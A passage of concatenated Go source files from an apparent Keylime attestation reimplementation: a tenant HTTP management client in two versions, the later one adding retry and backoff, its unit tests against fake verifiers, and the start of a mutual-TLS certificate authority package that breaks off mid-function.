	for i := 0; i < fleet; i++ {
		id := fmt.Sprintf("%08x-d2f1-4a97-9ef7-75bd81c00000", i)
		counts[shardIndex(id)]++
	}
	mean := fleet / shardCount
	for shard, n := range counts {
		if n > 2*mean {
			t.Errorf("shard %d holds %d agents, more than 2x the mean %d", shard, n, mean)
		}
	}
}
