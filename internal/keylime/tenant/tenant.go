// Package tenant implements the Keylime tenant: the command-line-oriented
// management client operators use to enroll nodes with a verifier, push
// runtime policies, and query attestation status. It is a thin HTTP client
// over the verifier's management API (see verifier.ManagementHandler).
package tenant

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"

	"repro/internal/keylime/httppool"
	"repro/internal/keylime/rollout"
	"repro/internal/policy"
)

// Sentinel errors.
var (
	ErrRequestFailed = errors.New("tenant: request failed")
)

// AddAgentRequest is the body for enrolling an agent with the verifier.
type AddAgentRequest struct {
	AgentURL string          `json:"agent_url"`
	Policy   json.RawMessage `json:"policy"`
}

// StatusResponse mirrors verifier.Status over the wire.
type StatusResponse struct {
	AgentID         string `json:"agent_id"`
	State           string `json:"operational_state"`
	Attestations    int    `json:"attestation_count"`
	VerifiedEntries int    `json:"verified_entries"`
	Halted          bool   `json:"halted"`
	// Degraded reports a current run of transient infrastructure faults.
	Degraded          bool `json:"degraded"`
	ConsecutiveFaults int  `json:"consecutive_faults"`
	// Breaker is the circuit-breaker state: closed, open, or half-open.
	Breaker          string        `json:"breaker"`
	BreakerOpenUntil string        `json:"breaker_open_until,omitempty"`
	Failures         []WireFailure `json:"failures"`
	// PolicyGeneration is the rollout generation the active policy came
	// from (0 = installed outside the rollout pipeline); ShadowGeneration
	// is the candidate riding in the agent's shadow slot, if any.
	PolicyGeneration uint64 `json:"policy_generation,omitempty"`
	ShadowGeneration uint64 `json:"shadow_generation,omitempty"`
	// SessionActive reports whether the verifier holds a live attestation
	// session for the agent; SessionRounds counts session-MAC rounds since
	// the last full quote; LastCheckLevel is the depth of the most recent
	// round ("full", "session", or "full-forced").
	SessionActive  bool   `json:"session_active,omitempty"`
	SessionRounds  int    `json:"session_rounds_since_full,omitempty"`
	LastCheckLevel string `json:"last_check_level,omitempty"`
}

// WireFailure is one failure record over the wire.
type WireFailure struct {
	Time   string `json:"time"`
	Type   string `json:"type"`
	Path   string `json:"path,omitempty"`
	Detail string `json:"detail"`
}

// Tenant is the management client. Construct with New.
type Tenant struct {
	verifierURL string
	client      *http.Client
}

// Option configures the tenant.
type Option interface{ apply(*Tenant) }

type clientOption struct{ c *http.Client }

func (o clientOption) apply(t *Tenant) { t.client = o.c }

// WithHTTPClient sets the HTTP client.
func WithHTTPClient(c *http.Client) Option { return clientOption{c: c} }

// New creates a tenant talking to the given verifier management URL.
func New(verifierURL string, opts ...Option) *Tenant {
	t := &Tenant{verifierURL: verifierURL, client: httppool.Shared()}
	for _, opt := range opts {
		opt.apply(t)
	}
	return t
}

// AddAgent enrolls an agent with the verifier under the given policy.
func (t *Tenant) AddAgent(agentID, agentURL string, pol *policy.RuntimePolicy) error {
	polJSON, err := json.Marshal(pol)
	if err != nil {
		return fmt.Errorf("tenant: encoding policy: %w", err)
	}
	body, err := json.Marshal(AddAgentRequest{AgentURL: agentURL, Policy: polJSON})
	if err != nil {
		return fmt.Errorf("tenant: encoding request: %w", err)
	}
	return t.do(http.MethodPost, "/v2/agents/"+url.PathEscape(agentID), body, nil)
}

// UpdatePolicy pushes a new runtime policy for an agent.
func (t *Tenant) UpdatePolicy(agentID string, pol *policy.RuntimePolicy) error {
	body, err := json.Marshal(pol)
	if err != nil {
		return fmt.Errorf("tenant: encoding policy: %w", err)
	}
	return t.do(http.MethodPut, "/v2/agents/"+url.PathEscape(agentID)+"/policy", body, nil)
}

// UpdateSignedPolicy pushes a signed policy envelope (accepted only by
// verifiers configured with a policy trust store).
func (t *Tenant) UpdateSignedPolicy(agentID string, env policy.Envelope) error {
	body, err := json.Marshal(env)
	if err != nil {
		return fmt.Errorf("tenant: encoding envelope: %w", err)
	}
	return t.do(http.MethodPut, "/v2/agents/"+url.PathEscape(agentID)+"/policy-signed", body, nil)
}

// Status fetches an agent's attestation status.
func (t *Tenant) Status(agentID string) (StatusResponse, error) {
	var out StatusResponse
	err := t.do(http.MethodGet, "/v2/agents/"+url.PathEscape(agentID), nil, &out)
	return out, err
}

// Resume re-arms a halted agent after operator intervention.
func (t *Tenant) Resume(agentID string) error {
	return t.do(http.MethodPost, "/v2/agents/"+url.PathEscape(agentID)+"/resume", nil, nil)
}

// RemoveAgent stops monitoring an agent.
func (t *Tenant) RemoveAgent(agentID string) error {
	return t.do(http.MethodDelete, "/v2/agents/"+url.PathEscape(agentID), nil, nil)
}

// BeginRollout starts a staged rollout of the candidate policy through
// the verifier's rollout controller and returns the allocated generation.
// A stale mirror or an in-flight rollout surfaces as ErrRequestFailed
// with the controller's 409 detail.
func (t *Tenant) BeginRollout(pol *policy.RuntimePolicy) (uint64, error) {
	body, err := json.Marshal(pol)
	if err != nil {
		return 0, fmt.Errorf("tenant: encoding policy: %w", err)
	}
	var out struct {
		Generation uint64 `json:"generation"`
	}
	if err := t.do(http.MethodPost, "/v2/rollout/begin", body, &out); err != nil {
		return 0, err
	}
	return out.Generation, nil
}

// RolloutStatus fetches the rollout controller's state.
func (t *Tenant) RolloutStatus() (rollout.Status, error) {
	var out rollout.Status
	err := t.do(http.MethodGet, "/v2/rollout/status", nil, &out)
	return out, err
}

// CancelRollout aborts the in-flight rollout, reverting any promoted
// canaries and quarantining the candidate.
func (t *Tenant) CancelRollout() error {
	return t.do(http.MethodPost, "/v2/rollout/cancel", nil, nil)
}

// ListAgents returns the ids of all monitored agents.
func (t *Tenant) ListAgents() ([]string, error) {
	var out map[string][]string
	if err := t.do(http.MethodGet, "/v2/agents", nil, &out); err != nil {
		return nil, err
	}
	return out["agents"], nil
}

func (t *Tenant) do(method, path string, body []byte, out any) error {
	var reader io.Reader
	if body != nil {
		reader = bytes.NewReader(body)
	}
	req, err := http.NewRequest(method, t.verifierURL+path, reader)
	if err != nil {
		return fmt.Errorf("tenant: building request: %w", err)
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	resp, err := t.client.Do(req)
	if err != nil {
		return fmt.Errorf("%w: %v", ErrRequestFailed, err)
	}
	defer func() { _ = resp.Body.Close() }()
	if resp.StatusCode != http.StatusOK {
		data, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
		return fmt.Errorf("%w: %s %s: status %d: %s", ErrRequestFailed, method, path, resp.StatusCode, data)
	}
	if out == nil {
		return nil
	}
	if err := json.NewDecoder(resp.Body).Decode(out); err != nil {
		return fmt.Errorf("tenant: decoding response: %w", err)
	}
	return nil
}
