// Package tenant implements the Keylime tenant: the command-line-oriented
// management client operators use to enroll nodes with a verifier, push
// runtime policies, and query attestation status. It is a thin HTTP client
// over the verifier's management API (see verifier.ManagementHandler).
package tenant

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand"
	"net/http"
	"net/url"
	"strings"
	"time"

	"repro/internal/keylime/httppool"
	"repro/internal/keylime/reconcile"
	"repro/internal/keylime/rollout"
	"repro/internal/policy"
)

// Sentinel errors. ErrRequestFailed matches ANY failed request (the
// historical contract); ErrTransport and ErrRejected split it so
// scripts can tell "the verifier was unreachable / erroring" (worth
// retrying, exit code 2 in keylime-tenant) from "the verifier said no"
// (a real rejection, exit code 3).
var (
	ErrRequestFailed = errors.New("tenant: request failed")
	// ErrTransport marks connection failures and 5xx responses that
	// persisted through the retry budget.
	ErrTransport = errors.New("tenant: transport failure")
	// ErrRejected marks 4xx responses: the request reached a healthy
	// verifier and was refused. Never retried.
	ErrRejected = errors.New("tenant: request rejected")
)

// RequestError is the concrete error for a failed management request.
// errors.Is matches ErrRequestFailed always, plus ErrTransport or
// ErrRejected according to the failure class.
type RequestError struct {
	Method   string
	Path     string
	Status   int // 0 when the request never got an HTTP response
	Attempts int
	Detail   string
	Cause    error // connection error, if any
}

func (e *RequestError) Error() string {
	var b strings.Builder
	fmt.Fprintf(&b, "%v: %s %s", ErrRequestFailed, e.Method, e.Path)
	if e.Status != 0 {
		fmt.Fprintf(&b, ": status %d", e.Status)
	}
	if e.Detail != "" {
		fmt.Fprintf(&b, ": %s", e.Detail)
	}
	if e.Cause != nil {
		fmt.Fprintf(&b, ": %v", e.Cause)
	}
	if e.Attempts > 1 {
		fmt.Fprintf(&b, " (after %d attempts)", e.Attempts)
	}
	return b.String()
}

// transient reports whether the failure class is worth retrying:
// no response at all, or a 5xx from a struggling server.
func (e *RequestError) transient() bool { return e.Status == 0 || e.Status >= 500 }

// Is implements the errors.Is contract described on RequestError.
func (e *RequestError) Is(target error) bool {
	switch target {
	case ErrRequestFailed:
		return true
	case ErrTransport:
		return e.transient()
	case ErrRejected:
		return !e.transient()
	}
	return false
}

func (e *RequestError) Unwrap() error { return e.Cause }

// AddAgentRequest is the body for enrolling an agent with the verifier.
type AddAgentRequest struct {
	AgentURL string          `json:"agent_url"`
	Policy   json.RawMessage `json:"policy"`
}

// StatusResponse mirrors verifier.Status over the wire.
type StatusResponse struct {
	AgentID         string `json:"agent_id"`
	State           string `json:"operational_state"`
	Attestations    int    `json:"attestation_count"`
	VerifiedEntries int    `json:"verified_entries"`
	Halted          bool   `json:"halted"`
	// Degraded reports a current run of transient infrastructure faults.
	Degraded          bool `json:"degraded"`
	ConsecutiveFaults int  `json:"consecutive_faults"`
	// Breaker is the circuit-breaker state: closed, open, or half-open.
	Breaker          string        `json:"breaker"`
	BreakerOpenUntil string        `json:"breaker_open_until,omitempty"`
	Failures         []WireFailure `json:"failures"`
	// PolicyGeneration is the rollout generation the active policy came
	// from (0 = installed outside the rollout pipeline); ShadowGeneration
	// is the candidate riding in the agent's shadow slot, if any.
	PolicyGeneration uint64 `json:"policy_generation,omitempty"`
	ShadowGeneration uint64 `json:"shadow_generation,omitempty"`
	// SessionActive reports whether the verifier holds a live attestation
	// session for the agent; SessionRounds counts session-MAC rounds since
	// the last full quote; LastCheckLevel is the depth of the most recent
	// round ("full", "session", or "full-forced").
	SessionActive  bool   `json:"session_active,omitempty"`
	SessionRounds  int    `json:"session_rounds_since_full,omitempty"`
	LastCheckLevel string `json:"last_check_level,omitempty"`
}

// WireFailure is one failure record over the wire.
type WireFailure struct {
	Time   string `json:"time"`
	Type   string `json:"type"`
	Path   string `json:"path,omitempty"`
	Detail string `json:"detail"`
}

// Tenant is the management client. Construct with New.
type Tenant struct {
	verifierURL string
	client      *http.Client
	// retries is the number of extra attempts after a transient failure
	// (connection error or 5xx); rejections (4xx) never retry.
	retries     int
	baseBackoff time.Duration
	maxBackoff  time.Duration
	sleep       func(time.Duration)
}

// Option configures the tenant.
type Option interface{ apply(*Tenant) }

type clientOption struct{ c *http.Client }

func (o clientOption) apply(t *Tenant) { t.client = o.c }

// WithHTTPClient sets the HTTP client.
func WithHTTPClient(c *http.Client) Option { return clientOption{c: c} }

type retryOption struct{ n int }

func (o retryOption) apply(t *Tenant) { t.retries = o.n }

// WithRetries sets how many times a transient failure (connection error
// or 5xx) is retried with capped jittered backoff. 0 disables retries;
// default 2.
func WithRetries(n int) Option { return retryOption{n: n} }

type backoffOption struct{ base, max time.Duration }

func (o backoffOption) apply(t *Tenant) { t.baseBackoff, t.maxBackoff = o.base, o.max }

// WithBackoff sets the first retry delay and its cap (defaults 200ms/2s).
func WithBackoff(base, max time.Duration) Option { return backoffOption{base: base, max: max} }

// New creates a tenant talking to the given verifier management URL.
func New(verifierURL string, opts ...Option) *Tenant {
	t := &Tenant{
		verifierURL: verifierURL,
		client:      httppool.Shared(),
		retries:     2,
		baseBackoff: 200 * time.Millisecond,
		maxBackoff:  2 * time.Second,
		sleep:       time.Sleep,
	}
	for _, opt := range opts {
		opt.apply(t)
	}
	return t
}

// AddAgent enrolls an agent with the verifier under the given policy.
func (t *Tenant) AddAgent(agentID, agentURL string, pol *policy.RuntimePolicy) error {
	polJSON, err := json.Marshal(pol)
	if err != nil {
		return fmt.Errorf("tenant: encoding policy: %w", err)
	}
	body, err := json.Marshal(AddAgentRequest{AgentURL: agentURL, Policy: polJSON})
	if err != nil {
		return fmt.Errorf("tenant: encoding request: %w", err)
	}
	return t.do(http.MethodPost, "/v2/agents/"+url.PathEscape(agentID), body, nil)
}

// UpdatePolicy pushes a new runtime policy for an agent.
func (t *Tenant) UpdatePolicy(agentID string, pol *policy.RuntimePolicy) error {
	body, err := json.Marshal(pol)
	if err != nil {
		return fmt.Errorf("tenant: encoding policy: %w", err)
	}
	return t.do(http.MethodPut, "/v2/agents/"+url.PathEscape(agentID)+"/policy", body, nil)
}

// UpdateSignedPolicy pushes a signed policy envelope (accepted only by
// verifiers configured with a policy trust store).
func (t *Tenant) UpdateSignedPolicy(agentID string, env policy.Envelope) error {
	body, err := json.Marshal(env)
	if err != nil {
		return fmt.Errorf("tenant: encoding envelope: %w", err)
	}
	return t.do(http.MethodPut, "/v2/agents/"+url.PathEscape(agentID)+"/policy-signed", body, nil)
}

// Status fetches an agent's attestation status.
func (t *Tenant) Status(agentID string) (StatusResponse, error) {
	var out StatusResponse
	err := t.do(http.MethodGet, "/v2/agents/"+url.PathEscape(agentID), nil, &out)
	return out, err
}

// Resume re-arms a halted agent after operator intervention.
func (t *Tenant) Resume(agentID string) error {
	return t.do(http.MethodPost, "/v2/agents/"+url.PathEscape(agentID)+"/resume", nil, nil)
}

// RemoveAgent stops monitoring an agent.
func (t *Tenant) RemoveAgent(agentID string) error {
	return t.do(http.MethodDelete, "/v2/agents/"+url.PathEscape(agentID), nil, nil)
}

// BeginRollout starts a staged rollout of the candidate policy through
// the verifier's rollout controller and returns the allocated generation.
// A stale mirror or an in-flight rollout surfaces as ErrRequestFailed
// with the controller's 409 detail.
func (t *Tenant) BeginRollout(pol *policy.RuntimePolicy) (uint64, error) {
	body, err := json.Marshal(pol)
	if err != nil {
		return 0, fmt.Errorf("tenant: encoding policy: %w", err)
	}
	var out struct {
		Generation uint64 `json:"generation"`
	}
	if err := t.do(http.MethodPost, "/v2/rollout/begin", body, &out); err != nil {
		return 0, err
	}
	return out.Generation, nil
}

// RolloutStatus fetches the rollout controller's state.
func (t *Tenant) RolloutStatus() (rollout.Status, error) {
	var out rollout.Status
	err := t.do(http.MethodGet, "/v2/rollout/status", nil, &out)
	return out, err
}

// CancelRollout aborts the in-flight rollout, reverting any promoted
// canaries and quarantining the candidate.
func (t *Tenant) CancelRollout() error {
	return t.do(http.MethodPost, "/v2/rollout/cancel", nil, nil)
}

// ApplyFleetSpec submits a desired-fleet spec document to the
// reconciler and returns the assigned version plus the immediate
// desired-vs-actual diff.
func (t *Tenant) ApplyFleetSpec(spec []byte) (uint64, reconcile.Diff, error) {
	var out struct {
		Version uint64         `json:"version"`
		Diff    reconcile.Diff `json:"diff"`
	}
	if err := t.do(http.MethodPost, "/v2/reconcile/apply", spec, &out); err != nil {
		return 0, reconcile.Diff{}, err
	}
	return out.Version, out.Diff, nil
}

// FleetStatus fetches the reconciler's status.
func (t *Tenant) FleetStatus() (reconcile.Status, error) {
	var out reconcile.Status
	err := t.do(http.MethodGet, "/v2/reconcile/status", nil, &out)
	return out, err
}

// FleetDiff fetches the outstanding desired-vs-actual delta.
func (t *Tenant) FleetDiff() (reconcile.Diff, error) {
	var out reconcile.Diff
	err := t.do(http.MethodGet, "/v2/reconcile/diff", nil, &out)
	return out, err
}

// FleetEvents fetches the reconciler's bounded event log, oldest first.
func (t *Tenant) FleetEvents() ([]reconcile.Event, error) {
	var out []reconcile.Event
	err := t.do(http.MethodGet, "/v2/reconcile/events", nil, &out)
	return out, err
}

// ListAgents returns the ids of all monitored agents.
func (t *Tenant) ListAgents() ([]string, error) {
	var out map[string][]string
	if err := t.do(http.MethodGet, "/v2/agents", nil, &out); err != nil {
		return nil, err
	}
	return out["agents"], nil
}

// do performs one management request, retrying transient failures
// (connection errors, 5xx) with capped jittered exponential backoff so
// a blip mid-script does not abort a whole enrollment batch. Requests
// are bodies-as-bytes, so every attempt replays identical content; the
// management API is idempotent per agent, so a retry after an applied-
// but-unacknowledged request is safe.
func (t *Tenant) do(method, path string, body []byte, out any) error {
	var last *RequestError
	for attempt := 0; ; attempt++ {
		reqErr := t.doOnce(method, path, body, out)
		if reqErr == nil {
			return nil
		}
		reqErr.Attempts = attempt + 1
		last = reqErr
		if !reqErr.transient() || attempt >= t.retries {
			break
		}
		delay := t.baseBackoff << attempt
		if delay > t.maxBackoff || delay <= 0 {
			delay = t.maxBackoff
		}
		// Full jitter over (0, delay]: concurrent scripted tenants should
		// not retry in lockstep against a struggling verifier.
		t.sleep(time.Duration(rand.Int63n(int64(delay)) + 1))
	}
	return last
}

func (t *Tenant) doOnce(method, path string, body []byte, out any) *RequestError {
	var reader io.Reader
	if body != nil {
		reader = bytes.NewReader(body)
	}
	req, err := http.NewRequest(method, t.verifierURL+path, reader)
	if err != nil {
		return &RequestError{Method: method, Path: path, Status: http.StatusBadRequest,
			Detail: "building request", Cause: err}
	}
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	resp, err := t.client.Do(req)
	if err != nil {
		return &RequestError{Method: method, Path: path, Cause: err}
	}
	defer func() { _ = resp.Body.Close() }()
	if resp.StatusCode != http.StatusOK {
		data, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
		return &RequestError{Method: method, Path: path, Status: resp.StatusCode,
			Detail: strings.TrimSpace(string(data))}
	}
	if out == nil {
		return nil
	}
	if err := json.NewDecoder(resp.Body).Decode(out); err != nil {
		return &RequestError{Method: method, Path: path, Status: resp.StatusCode,
			Detail: "decoding response", Cause: err}
	}
	return nil
}
