package tenant

import (
	"crypto/sha256"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"testing"

	"repro/internal/policy"
)

// fakeVerifier captures the requests a tenant sends.
type fakeVerifier struct {
	mux      *http.ServeMux
	added    map[string]AddAgentRequest
	policies map[string]json.RawMessage
	resumed  map[string]int
	removed  map[string]int
}

func newFakeVerifier() *fakeVerifier {
	f := &fakeVerifier{
		mux:      http.NewServeMux(),
		added:    map[string]AddAgentRequest{},
		policies: map[string]json.RawMessage{},
		resumed:  map[string]int{},
		removed:  map[string]int{},
	}
	f.mux.HandleFunc("POST /v2/agents/{id}", func(w http.ResponseWriter, r *http.Request) {
		var body AddAgentRequest
		if err := json.NewDecoder(r.Body).Decode(&body); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		f.added[r.PathValue("id")] = body
	})
	f.mux.HandleFunc("GET /v2/agents/{id}", func(w http.ResponseWriter, r *http.Request) {
		id := r.PathValue("id")
		if _, ok := f.added[id]; !ok {
			http.Error(w, "not found", http.StatusNotFound)
			return
		}
		_ = json.NewEncoder(w).Encode(StatusResponse{AgentID: id, State: "Get Quote", Attestations: 3})
	})
	f.mux.HandleFunc("PUT /v2/agents/{id}/policy", func(w http.ResponseWriter, r *http.Request) {
		var raw json.RawMessage
		if err := json.NewDecoder(r.Body).Decode(&raw); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		f.policies[r.PathValue("id")] = raw
	})
	f.mux.HandleFunc("POST /v2/agents/{id}/resume", func(w http.ResponseWriter, r *http.Request) {
		f.resumed[r.PathValue("id")]++
	})
	f.mux.HandleFunc("DELETE /v2/agents/{id}", func(w http.ResponseWriter, r *http.Request) {
		f.removed[r.PathValue("id")]++
	})
	return f
}

func newTestTenant(t *testing.T) (*Tenant, *fakeVerifier) {
	t.Helper()
	f := newFakeVerifier()
	srv := httptest.NewServer(f.mux)
	t.Cleanup(srv.Close)
	return New(srv.URL), f
}

func samplePolicy() *policy.RuntimePolicy {
	p := policy.New()
	p.Add("/bin/bash", sha256.Sum256([]byte("bash")))
	return p
}

func TestAddAgentSendsPolicy(t *testing.T) {
	tn, f := newTestTenant(t)
	if err := tn.AddAgent("agent-1", "http://agent:9002", samplePolicy()); err != nil {
		t.Fatalf("AddAgent: %v", err)
	}
	req, ok := f.added["agent-1"]
	if !ok {
		t.Fatal("verifier did not receive add request")
	}
	if req.AgentURL != "http://agent:9002" {
		t.Fatalf("AgentURL = %q", req.AgentURL)
	}
	var pol policy.RuntimePolicy
	if err := json.Unmarshal(req.Policy, &pol); err != nil {
		t.Fatalf("policy payload: %v", err)
	}
	if !pol.Has("/bin/bash") {
		t.Fatal("policy content lost in transit")
	}
}

func TestUpdatePolicy(t *testing.T) {
	tn, f := newTestTenant(t)
	if err := tn.AddAgent("a", "u", samplePolicy()); err != nil {
		t.Fatalf("AddAgent: %v", err)
	}
	if err := tn.UpdatePolicy("a", samplePolicy()); err != nil {
		t.Fatalf("UpdatePolicy: %v", err)
	}
	if _, ok := f.policies["a"]; !ok {
		t.Fatal("policy update not received")
	}
}

func TestStatusAndErrors(t *testing.T) {
	tn, _ := newTestTenant(t)
	if err := tn.AddAgent("a", "u", samplePolicy()); err != nil {
		t.Fatalf("AddAgent: %v", err)
	}
	st, err := tn.Status("a")
	if err != nil {
		t.Fatalf("Status: %v", err)
	}
	if st.State != "Get Quote" || st.Attestations != 3 {
		t.Fatalf("Status = %+v", st)
	}
	if _, err := tn.Status("ghost"); !errors.Is(err, ErrRequestFailed) {
		t.Fatalf("Status(ghost) = %v, want ErrRequestFailed", err)
	}
}

func TestResumeAndRemove(t *testing.T) {
	tn, f := newTestTenant(t)
	if err := tn.Resume("a"); err != nil {
		t.Fatalf("Resume: %v", err)
	}
	if err := tn.RemoveAgent("a"); err != nil {
		t.Fatalf("RemoveAgent: %v", err)
	}
	if f.resumed["a"] != 1 || f.removed["a"] != 1 {
		t.Fatalf("resume/remove counts = %d/%d", f.resumed["a"], f.removed["a"])
	}
}

func TestUnreachableVerifier(t *testing.T) {
	tn := New("http://127.0.0.1:1")
	if err := tn.AddAgent("a", "u", samplePolicy()); !errors.Is(err, ErrRequestFailed) {
		t.Fatalf("err = %v, want ErrRequestFailed", err)
	}
}
