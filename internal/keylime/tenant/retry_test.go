package tenant

// Failure taxonomy and retry behavior of the tenant client: transient
// failures (connection errors, 5xx) match ErrTransport and are retried
// with capped jittered backoff; rejections (4xx) match ErrRejected and
// fail fast — the split the CLI's exit-code contract (2 vs 3) and any
// scripted enrollment batch depend on.

import (
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/keylime/reconcile"
)

func TestTransientFailuresRetryThenSucceed(t *testing.T) {
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if hits.Add(1) <= 2 {
			http.Error(w, "verifier mid-restart", http.StatusServiceUnavailable)
			return
		}
		w.WriteHeader(http.StatusOK)
	}))
	defer srv.Close()
	tn := New(srv.URL, WithRetries(3), WithBackoff(10*time.Millisecond, 40*time.Millisecond))
	var slept []time.Duration
	tn.sleep = func(d time.Duration) { slept = append(slept, d) }

	if err := tn.Resume("agent-1"); err != nil {
		t.Fatalf("Resume after transient failures: %v", err)
	}
	if got := hits.Load(); got != 3 {
		t.Fatalf("attempts = %d, want 3 (two 503s then success)", got)
	}
	if len(slept) != 2 {
		t.Fatalf("backoff sleeps = %v, want 2", slept)
	}
	for i, d := range slept {
		if d <= 0 || d > 40*time.Millisecond {
			t.Fatalf("sleep[%d] = %v outside (0, max]", i, d)
		}
	}
}

func TestTransportErrorsAreCappedAndClassified(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "boom", http.StatusInternalServerError)
	}))
	defer srv.Close()
	tn := New(srv.URL, WithRetries(2), WithBackoff(time.Millisecond, 2*time.Millisecond))
	sleeps := 0
	tn.sleep = func(time.Duration) { sleeps++ }

	err := tn.Resume("agent-1")
	if err == nil {
		t.Fatal("persistent 500 reported success")
	}
	if !errors.Is(err, ErrTransport) || !errors.Is(err, ErrRequestFailed) {
		t.Fatalf("500 error = %v, want ErrTransport and ErrRequestFailed", err)
	}
	if errors.Is(err, ErrRejected) {
		t.Fatalf("500 error matched ErrRejected: %v", err)
	}
	var re *RequestError
	if !errors.As(err, &re) || re.Attempts != 3 || re.Status != 500 {
		t.Fatalf("RequestError = %+v, want 3 attempts at status 500", re)
	}
	if sleeps != 2 {
		t.Fatalf("sleeps = %d, want 2 (retries capped at WithRetries)", sleeps)
	}

	// A dead endpoint (connection refused) is also transport-class.
	dead := New("http://127.0.0.1:1", WithRetries(0))
	if err := dead.Resume("x"); !errors.Is(err, ErrTransport) {
		t.Fatalf("connection failure = %v, want ErrTransport", err)
	}
}

func TestRejectionsFailFastWithoutRetry(t *testing.T) {
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		http.Error(w, "unknown agent", http.StatusNotFound)
	}))
	defer srv.Close()
	tn := New(srv.URL, WithRetries(5))
	tn.sleep = func(time.Duration) { t.Fatal("4xx must not back off") }

	err := tn.Resume("nope")
	if !errors.Is(err, ErrRejected) || !errors.Is(err, ErrRequestFailed) {
		t.Fatalf("404 error = %v, want ErrRejected and ErrRequestFailed", err)
	}
	if errors.Is(err, ErrTransport) {
		t.Fatalf("404 error matched ErrTransport: %v", err)
	}
	if got := hits.Load(); got != 1 {
		t.Fatalf("attempts = %d, want 1 (rejections are final)", got)
	}
}

func TestFleetClientMethods(t *testing.T) {
	mux := http.NewServeMux()
	var gotSpec []byte
	mux.HandleFunc("POST /v2/reconcile/apply", func(w http.ResponseWriter, r *http.Request) {
		gotSpec, _ = io.ReadAll(r.Body)
		_ = json.NewEncoder(w).Encode(map[string]any{
			"version": 4,
			"diff": reconcile.Diff{Version: 4, Enrolls: []string{"a", "b"},
				Withdraws: []string{"z"}},
		})
	})
	mux.HandleFunc("GET /v2/reconcile/status", func(w http.ResponseWriter, r *http.Request) {
		_ = json.NewEncoder(w).Encode(reconcile.Status{SpecVersion: 4, Managed: 2, Converged: true})
	})
	mux.HandleFunc("GET /v2/reconcile/diff", func(w http.ResponseWriter, r *http.Request) {
		_ = json.NewEncoder(w).Encode(reconcile.Diff{Version: 4, Converged: true})
	})
	mux.HandleFunc("GET /v2/reconcile/events", func(w http.ResponseWriter, r *http.Request) {
		_ = json.NewEncoder(w).Encode([]reconcile.Event{
			{Type: reconcile.EventApplied, Version: 4},
			{Type: reconcile.EventConverged, Version: 4},
		})
	})
	srv := httptest.NewServer(mux)
	defer srv.Close()
	tn := New(srv.URL)

	spec := []byte(`{"agents":[{"id":"a","url":"http://a:9002"}]}`)
	version, diff, err := tn.ApplyFleetSpec(spec)
	if err != nil {
		t.Fatalf("ApplyFleetSpec: %v", err)
	}
	if version != 4 || len(diff.Enrolls) != 2 || len(diff.Withdraws) != 1 {
		t.Fatalf("apply = v%d %+v", version, diff)
	}
	if string(gotSpec) != string(spec) {
		t.Fatalf("spec sent = %s, want %s", gotSpec, spec)
	}
	status, err := tn.FleetStatus()
	if err != nil || status.SpecVersion != 4 || !status.Converged || status.Managed != 2 {
		t.Fatalf("FleetStatus = %+v, %v", status, err)
	}
	d, err := tn.FleetDiff()
	if err != nil || d.Version != 4 || !d.Converged {
		t.Fatalf("FleetDiff = %+v, %v", d, err)
	}
	events, err := tn.FleetEvents()
	if err != nil || len(events) != 2 || events[1].Type != reconcile.EventConverged {
		t.Fatalf("FleetEvents = %+v, %v", events, err)
	}
}
