// Package tlsutil provisions the mutual-TLS identities Keylime deployments
// protect component traffic with: a deployment CA signs server certificates
// for registrar/verifier/agent endpoints and client certificates for the
// components that call them. Servers require client certificates chained to
// the deployment CA, so only enrolled infrastructure can talk to the
// attestation plane.
package tlsutil

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"time"
)

// ErrBadName reports an empty certificate subject name.
var ErrBadName = errors.New("tlsutil: certificate requires a name")

// Authority is the deployment's TLS certificate authority.
type Authority struct {
	key  *ecdsa.PrivateKey
	cert *x509.Certificate
	rng  io.Reader
}

// NewAuthority creates a deployment CA.
func NewAuthority(rng io.Reader) (*Authority, error) {
	if rng == nil {
		rng = rand.Reader
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rng)
	if err != nil {
		return nil, fmt.Errorf("tlsutil: generating CA key: %w", err)
	}
	tmpl := &x509.Certificate{
		SerialNumber:          big.NewInt(1),
		Subject:               pkix.Name{CommonName: "Keylime Deployment CA", Organization: []string{"repro"}},
		NotBefore:             time.Now().Add(-time.Hour),
		NotAfter:              time.Now().Add(10 * 365 * 24 * time.Hour),
		IsCA:                  true,
		KeyUsage:              x509.KeyUsageCertSign,
		BasicConstraintsValid: true,
	}
	der, err := x509.CreateCertificate(rng, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		return nil, fmt.Errorf("tlsutil: self-signing CA: %w", err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		return nil, fmt.Errorf("tlsutil: parsing CA cert: %w", err)
	}
	return &Authority{key: key, cert: cert, rng: rng}, nil
}

// Pool returns a pool trusting this CA.
func (a *Authority) Pool() *x509.CertPool {
	pool := x509.NewCertPool()
	pool.AddCert(a.cert)
	return pool
}

// Identity is a certificate + key usable as a TLS credential.
type Identity struct {
	Cert tls.Certificate
	Leaf *x509.Certificate
}

// issue creates a leaf certificate.
func (a *Authority) issue(name string, server bool, hosts []string) (Identity, error) {
	if name == "" {
		return Identity{}, ErrBadName
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), a.rng)
	if err != nil {
		return Identity{}, fmt.Errorf("tlsutil: generating key for %s: %w", name, err)
	}
